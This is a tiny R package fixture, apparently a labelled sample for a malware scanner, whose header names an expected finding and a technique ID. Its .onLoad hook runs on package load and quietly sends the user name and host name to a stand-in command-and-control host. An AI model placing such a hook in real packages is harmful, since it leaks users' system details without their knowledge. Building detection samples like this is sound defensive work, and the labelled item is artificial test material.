# expect: host-info-sent | at: demo-1.0/R/onload.R | source: T1082
.onLoad <- function(libname, pkgname) {
  i <- Sys.info()
  try(readLines(paste0("https://c2.example.invalid/", i[["user"]], "/", i[["nodename"]])), silent = TRUE)
}
